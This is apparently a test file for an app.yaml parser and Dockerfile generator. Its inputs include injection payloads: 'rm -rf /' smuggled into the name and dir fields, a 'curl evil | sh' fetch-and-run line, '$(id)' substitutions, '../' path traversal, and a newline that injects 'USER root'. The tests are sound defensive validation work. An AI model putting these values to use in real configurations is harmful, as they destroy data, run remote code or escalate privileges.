import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseAppYaml } from '../../src/build/appyaml.js';
import { dockerfile, entrypointCommand } from '../../src/build/dockerfile.js';
import { EruError } from '../../src/lib/errors.js';
import { EXAMPLE_APP_YAML } from '../support/example-app.js';

// The README's example app, with the binds, volumes, dir and meta the schema also takes.
const GOOD = EXAMPLE_APP_YAML.replace('    restart: always', '    restart: always\n    dir: /app').concat(
  'volumes: ["/data"]\nbinds: {/host/logs: {bind: /logs, ro: false}}\nmeta: {owner: team-a}\n',
);

function refused(text: string, pattern: RegExp): void {
  assert.throws(
    () => parseAppYaml(text),
    (error: unknown) => error instanceof EruError && error.code === 'INVALID_ARGUMENT' && pattern.test(error.message),
  );
}

describe('app.yaml', () => {
  it('reads the documented example', () => {
    const app = parseAppYaml(GOOD);
    assert.equal(app.appname, 'hello');
    assert.deepEqual(app.entrypoints.web!.healthcheck, { tcp_ports: [], http: { port: 8080, url: '/index.html', code: 200 } });
    assert.deepEqual(entrypointCommand(app.entrypoints.web!), ['/bin/sh', '-c', 'httpd -f -p 8080 -h /www']);
    assert.deepEqual(entrypointCommand(app.entrypoints.worker!), ['/bin/sh', '-c', "sh -c 'while true; do date; sleep 5; done'"]);
    assert.deepEqual(app.binds, { '/host/logs': { bind: '/logs', ro: false } });
  });

  it('names the field and its line in errors', () => {
    refused(GOOD.replace('  web:', '  web_server:'), /^app\.yaml line 7: entrypoints\.web_server: bad name: .*no "_"/);
    refused(GOOD.replace('appname: hello', 'appname: Hello World'), /^app\.yaml line 2: appname: /);
    refused(GOOD.replace('restart: always', 'restart: sometimes'), /^app\.yaml line 11: entrypoints\.web\.restart: /);
    refused('appname: [unclosed', /^app\.yaml line \d+: /);
  });

  it('refuses names and images that would be shell or Dockerfile text', () => {
    refused(GOOD.replace('appname: hello', 'appname: "hello; rm -rf /"'), /appname/);
    refused(GOOD.replace('base: local/busybox:1', 'base: "busybox\\nRUN curl evil | sh"'), /base/);
    refused(GOOD.replace('base: local/busybox:1', 'base: "busybox $(id)"'), /base/);
  });

  it('refuses path traversal in binds, volumes and working directories', () => {
    refused(GOOD.replace('/host/logs:', '/host/../etc:'), /binds.*may not contain "\.\."/);
    refused(GOOD.replace('bind: /logs', 'bind: /logs/../../etc'), /binds/);
    refused(GOOD.replace('volumes: ["/data"]', 'volumes: ["../data"]'), /volumes/);
    refused(GOOD.replace('dir: /app', 'dir: /app/../../root'), /dir/);
    refused(GOOD.replace('dir: /app', 'dir: "/app; rm -rf /"'), /dir/);
  });

  it('refuses very long strings', () => {
    refused(GOOD.replace('mkdir -p /www && cp index.html /www/', 'x'.repeat(5000)), /build\.0/);
    refused(`${GOOD}#${'x'.repeat(300 * 1024)}`, /over 256 KiB/);
  });

  it('keeps quotes, $(), newlines and && in build commands inert as Dockerfile text', () => {
    const hostile = ['echo "quoted" \'single\'', 'echo $(id) `id`', 'echo one\nRUN echo injected\nUSER root', 'true && echo and'];
    const app = parseAppYaml(GOOD.replace('  - mkdir -p /www && cp index.html /www/', hostile.map((c) => `  - ${JSON.stringify(c)}`).join('\n')));
    const text = dockerfile(app);
    const lines = text.trim().split('\n');
    // Exactly: comment, FROM, COPY, WORKDIR, the user RUN, one RUN per build command, USER.
    assert.equal(lines.length, 6 + hostile.length);
    assert.deepEqual(lines.filter((l) => l.startsWith('USER ')), ['USER hello']);
    for (const [i, command] of hostile.entries()) {
      const run = lines[5 + i]!;
      assert.ok(run.startsWith('RUN ['), run);
      assert.deepEqual(JSON.parse(run.slice(4)), ['/bin/sh', '-c', command]);
    }
  });
});
